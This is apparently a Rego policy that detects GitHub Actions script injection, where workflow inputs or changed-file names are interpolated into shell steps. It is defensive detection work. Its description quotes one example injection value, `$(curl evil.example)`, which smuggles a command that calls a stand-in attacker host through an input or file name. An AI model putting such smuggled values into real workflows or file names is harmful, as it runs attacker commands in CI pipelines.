# METADATA
# title: Text of a caller is run as a program
# description: |
#   An expression is put into the script before the shell reads it. Whoever calls the workflow or action may hand on
#   what a stranger wrote, and files have any name: `$(curl evil.example)` in it is run as a command.
# related_resources:
#   - ref: https://docs.github.com/en/actions/reference/security/secure-use#understanding-the-risk-of-script-injections
#     description: Script injections
# schemas:
#   - input: schema.review
# custom:
#   severity: medium
#   remediation: >-
#     Hand the value over in `env` and use it as a quoted variable: `env: {NAME: ${{ inputs.name }}}`,
#     `run: echo "$NAME"`.
#   resources:
#     - workflow
#     - action
#   topics:
#     - gha-script-injection
#   frameworks:
#     nist-800-53:
#       - "SI-10"
#     owasp-cicd:
#       - "CICD-SEC-4"
package policies.github_actions.caller_injection

import data.policies.lib.actions
import data.policies.lib.finding

# Who starts a workflow by hand may write already.
deny contains finding.on(script.resource, script.path, message) if {
	some script in actions.scripts
	some expression in actions.expressions(script.text)

	some name in _free_inputs(script.resource)
	regex.match($"\\binputs\\.{name}\\b", expression)
	not regex.match(_harmless, expression)
	message := $"{script.resource.address} runs {expression}, which its caller writes; expected it in env, as a variable"
}

# So may a file be called that was merged.
deny contains finding.on(script.resource, script.path, message) if {
	some script in actions.scripts
	some expression in actions.expressions(script.text)

	script.resource.type == "workflow"
	actions.lists_changes(script, expression)
	count(actions.triggers(script.resource) - actions.after_review) == 0
	message := $"{script.resource.address} runs {expression}, names of changed files; expected it in env, as a variable"
}

_free_inputs(resource) := _inputs(resource.after) if resource.type == "action"

_free_inputs(resource) := _inputs(resource.after.on.workflow_call) if resource.type == "workflow"

_inputs(holder) := {lower(name) |
	some name, input_ in holder.inputs
	not object.get(_object(input_), "type", "string") in {"boolean", "number", "choice", "environment"}
}

_object(value) := value if is_object(value)

_object(value) := {} if not is_object(value)

_harmless := `^!|[!=]=|^(contains|startswith|endswith)\(`
